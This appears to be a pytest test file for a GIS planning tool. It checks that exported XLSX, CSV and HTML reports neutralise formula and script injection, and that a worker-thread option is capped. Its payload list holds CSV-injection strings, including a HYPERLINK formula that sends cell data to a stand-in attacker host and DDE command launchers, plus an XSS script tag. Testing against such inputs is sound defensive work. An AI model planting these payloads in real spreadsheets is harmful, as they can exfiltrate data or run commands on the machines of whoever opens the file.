"""Issue 17, cases 11 and 19 (--workers): exported tables carry no live formula; --workers is bounded.

Case 11 (OWASP "CSV Injection"): program text such as ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0`` or
``=1+1`` must reach every XLSX as a text cell and every CSV with a leading apostrophe, in each writer
of the tool: ``sppr check --tables`` (XLSX and CSV), ``sppr revisi --tables`` (XLSX and CSV), and
``sppr sync`` (buku_matriks.xlsx, csv/, laporan.html). The files are read back with openpyxl (its own
reading of the cell type, not sppr_gis's) and with the csv module.
"""

from __future__ import annotations

import csv
import html
import os
import threading
from pathlib import Path

import geopandas as gpd
import openpyxl
import pytest
from conftest import SAMPLE, invoke

#: What an attacker (or a careless copy from a web page) puts into a program's text fields.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: The characters OWASP names: a cell starting with one of them is evaluated by a spreadsheet.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A negative number in a numeric column: a number, not text, in XLSX and CSV.
NEGATIVE = -5.25


def _poisoned_programs(folder: Path) -> Path:
    """The sample city's PUPR programs with a payload in the text fields of the first rows (and in two
    ids), and a negative number in a numeric column."""
    g = gpd.read_file(SAMPLE / "rencana_pupr.gpkg", layer="rencana")
    rows = g.index[g["tahun"] == 2025]  # programs of the year sync runs below
    assert len(rows) > len(PAYLOADS) + 2
    for k, p in enumerate(PAYLOADS):
        g.loc[rows[k], "nama_kegiatan"] = p
        g.loc[rows[k], "lokasi"] = p
    g.loc[rows[len(PAYLOADS)], "program_id"] = "=1+2"
    g.loc[rows[len(PAYLOADS) + 1], "program_id"] = "@A1"
    g.loc[rows[0], "realisasi"] = NEGATIVE
    path = folder / "rencana_pupr.gpkg"
    g.to_file(path, layer="rencana")
    return path


def _check_xlsx(path: Path, must_hold: set[str]) -> None:
    """No cell of the workbook is a formula; every payload in ``must_hold`` is a text cell holding it."""
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would show as one
    # a carriage return is stored as Excel's escape _x000D_, which openpyxl leaves as it is
    wanted = {p.replace("\r", "_x000D_"): p for p in [*PAYLOADS, "=1+2", "@A1"]}
    found: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value in wanted:
                    assert cell.data_type == "s"
                    found.add(wanted[cell.value])
    assert must_hold <= found, f"{path.name}: missing {must_hold - found}"
    wb.close()


def _check_csv(paths: list[Path], must_hold: set[str], negative: bool = False) -> None:
    """No CSV cell starts with a formula character unless it is a number; payloads have their apostrophe."""
    assert paths
    found: set[str] = set()
    saw_negative = False
    for p in paths:
        with p.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for v in row:
                    if v.startswith(FORMULA_START):
                        try:
                            float(v)
                        except ValueError:
                            pytest.fail(f"{p.name}: cell {v!r} would be evaluated by a spreadsheet")
                        saw_negative |= float(v) == NEGATIVE
                    # a carriage return comes back as a line feed (quoted; a bare one would end the row)
                    wanted = {p.replace("\r", "\n"): p for p in [*PAYLOADS, "=1+2", "@A1"]}
                    if v.startswith("'") and v[1:] in wanted:
                        found.add(wanted[v[1:]])
    assert must_hold <= found, f"missing {must_hold - found}"
    if negative:
        assert saw_negative, "the negative number is not written as a number"


def _check_args(programs: Path, tmp: Path) -> list:
    return ["check", "--zoning", f"{SAMPLE}/zoning.gpkg:rdtr_subzona", "--programs", f"{programs}:rencana", "--rules", SAMPLE / "itbx.csv",
            "--zone-field", "KODSZN", "-q"]


def test_check_tables_xlsx_has_no_live_formula(runner, tmp_path):
    """`sppr check --tables x.xlsx`: payloads are text cells, no cell is a formula, the negative number a number."""
    progs = _poisoned_programs(tmp_path)
    r = invoke(runner, [*_check_args(progs, tmp_path), "--out", tmp_path / "hasil.gpkg", "--tables", tmp_path / "hasil.xlsx"])
    assert r.exit_code == 0, r.output
    _check_xlsx(tmp_path / "hasil.xlsx", set(PAYLOADS) | {"=1+2", "@A1"})
    wb = openpyxl.load_workbook(tmp_path / "hasil.xlsx")
    ws = wb["programs"]
    head = [c.value for c in ws[1]]
    col = head.index("realisasi")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    neg = [c for c in cells if c.value == NEGATIVE]
    assert len(neg) == 1 and neg[0].data_type == "n"


def test_check_tables_csv_has_apostrophe(runner, tmp_path):
    """`sppr check --tables x.csv`: each payload with a leading apostrophe; numbers, negative ones too, stay numbers."""
    progs = _poisoned_programs(tmp_path)
    r = invoke(runner, [*_check_args(progs, tmp_path), "--out", tmp_path / "hasil.gpkg", "--tables", tmp_path / "hasil.csv"])
    assert r.exit_code == 0, r.output
    files = sorted(tmp_path.glob("hasil_*.csv"))
    _check_csv(files, set(PAYLOADS) | {"=1+2", "@A1"}, negative=True)
    # and the text is the program's own once the apostrophe is taken off
    with (tmp_path / "hasil_programs.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["nama_kegiatan"][1:] for r in rows if r["nama_kegiatan"].startswith("'")] == [p.replace("\r", "\n") for p in PAYLOADS]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_revisi_tables_have_no_live_formula(runner, tmp_path, suffix):
    """`sppr revisi --tables`: the programs' ids reach its tables as text."""
    progs = _poisoned_programs(tmp_path)
    zoning = gpd.read_file(SAMPLE / "zoning.gpkg", layer="rdtr_subzona")
    new = zoning.copy()
    new.loc[new.index[:40], "KODSZN"] = "RTH-1"
    new.to_file(tmp_path / "baru.gpkg", layer="rdtr_subzona")
    tables = tmp_path / f"rev{suffix}"
    r = invoke(runner, ["revisi", "--zoning-lama", f"{SAMPLE}/zoning.gpkg:rdtr_subzona", "--zoning-baru", tmp_path / "baru.gpkg", "--programs", f"{progs}:rencana",
                        "--rules", SAMPLE / "itbx.csv", "--out", tmp_path / "rev.gpkg", "--tables", tables, "-q"])
    assert r.exit_code == 0, r.output
    if suffix == ".xlsx":
        _check_xlsx(tables, {"=1+2", "@A1"})
    else:
        _check_csv(sorted(tmp_path.glob("rev_*.csv")), {"=1+2", "@A1"})


def test_sync_outputs_have_no_live_formula(runner, tmp_path, monkeypatch):
    """`sppr sync`: buku_matriks.xlsx (every sheet) and every CSV under csv/."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
    folder = tmp_path / "cfg"
    folder.mkdir()
    for f in SAMPLE.iterdir():
        if f.is_file() and f.name not in ("rencana_pupr.gpkg", "sppr.toml"):
            os.symlink(f, folder / f.name)
    (folder / "sppr.toml").write_text((SAMPLE / "sppr.toml").read_text(encoding="utf-8"), encoding="utf-8")  # a copy: paths are its folder's
    _poisoned_programs(folder)
    out = tmp_path / "out"
    r = invoke(runner, ["sync", "--config", folder / "sppr.toml", "--year", "2025", "--out", out, "--no-maps", "-q"])
    assert r.exit_code == 0, r.output
    year = out / "2025"
    # the payload rows that are programs of that year (their names reach the matrices)
    g = gpd.read_file(folder / "rencana_pupr.gpkg", layer="rencana")
    in_year = {p for p in PAYLOADS if p in set(g.loc[g["tahun"] == 2025, "nama_kegiatan"])}
    assert in_year == set(PAYLOADS)
    _check_xlsx(year / "buku_matriks.xlsx", in_year)
    _check_csv(sorted((year / "csv").glob("*.csv")), in_year)


def test_laporan_html_escapes_program_text(tmp_path):
    """laporan.html: program text is HTML-escaped in its tables and in the map's data."""
    from sppr_gis.report.html import write_report

    g = gpd.read_file(_poisoned_programs(tmp_path), layer="rencana")
    g.loc[g.index[0], "nama_kegiatan"] = "<script>alert('x')</script>"
    page = write_report(tmp_path / "laporan.html", layers={"rencana": g}, year=2023, title="Kota <i>X</i>",
                        tables={"kesesuaian": g.drop(columns="geometry")}).read_text(encoding="utf-8")
    # names print as the nomenclature writes them ("<Script>Alert('X')</Script>"): escaped whatever their casing
    assert "<script>alert(" not in page.lower() and "<i>x</i>" not in page.lower()
    assert html.escape("<script>alert('x')</script>") in page.lower()


def test_workers_capped_at_usable_cpus(runner, tmp_path, monkeypatch):
    """`--workers 100000` on this machine: a warning, every thread pool opened holds at most one thread a CPU
    (the pools are what took 4.7 GB), and no more threads alive at once than two pools of CPUs plus the named
    helper threads (the steps done side by side: the zoning prepared while programs are read, the QA's union
    beside its overlaps, the engine beside the QA's end, the memory trimmer). How many of those overlap at one
    instant depends on timing, so the peak is bounded, not compared run to run (it was 5 or 6 either way)."""
    from concurrent.futures import ThreadPoolExecutor

    cpus = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
    start = threading.Thread.start
    pool_init = ThreadPoolExecutor.__init__

    def run(workers: str, out: str) -> tuple[int, list[int], str]:
        before = threading.active_count()
        peak, pools = [before], []

        def counting_start(self, *args, **kwargs):
            start(self, *args, **kwargs)
            peak[0] = max(peak[0], threading.active_count())

        def counting_pool(self, *args, **kwargs):
            pool_init(self, *args, **kwargs)
            pools.append(self._max_workers)

        monkeypatch.setattr(threading.Thread, "start", counting_start)
        monkeypatch.setattr(ThreadPoolExecutor, "__init__", counting_pool)
        r = invoke(runner, ["check", "--zoning", f"{SAMPLE}/zoning.gpkg:rdtr_subzona", "--programs", f"{SAMPLE}/rencana_pupr.gpkg:rencana",
                            "--rules", SAMPLE / "itbx.csv", "--out", tmp_path / out, "--workers", workers, "-q", "--no-cache"])
        monkeypatch.setattr(threading.Thread, "start", start)
        monkeypatch.setattr(ThreadPoolExecutor, "__init__", pool_init)
        assert r.exit_code == 0, r.output
        return peak[0] - before, pools, r.output

    asked, pools, output = run("100000", "hasil.gpkg")
    assert pools and max(pools) <= cpus, f"thread pools of {sorted(set(pools))} threads with --workers 100000 on {cpus} CPUs"
    assert asked <= 2 * cpus + 3, f"{asked} threads at once on {cpus} CPUs"
    usable, pools_usable, _ = run(str(cpus), "hasil_cpus.gpkg")
    assert usable <= 2 * cpus + 3, f"{usable} threads at once on {cpus} CPUs"
    assert max(pools_usable) == max(pools) == cpus  # the cap is the CPUs, not less: the engine still runs wide
    assert "100000" in output and f"using {cpus}" in output
